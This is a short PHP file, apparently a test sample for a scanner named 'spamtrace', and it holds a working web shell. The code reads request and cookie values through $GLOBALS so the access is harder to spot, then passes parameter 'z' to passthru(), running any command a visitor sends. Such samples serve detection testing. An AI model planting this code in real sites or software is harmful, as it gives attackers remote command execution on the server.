<?php
// spamtrace test sample (written for the tests, never run): the request arrays read through
// $GLOBALS by a name from a list, the command run from what was found there
foreach (array('_GET', '_COOKIE') as $g) {
    $v = $GLOBALS[$g];
    if (!empty($v['z'])) {
        passthru($v['z']);
    }
}
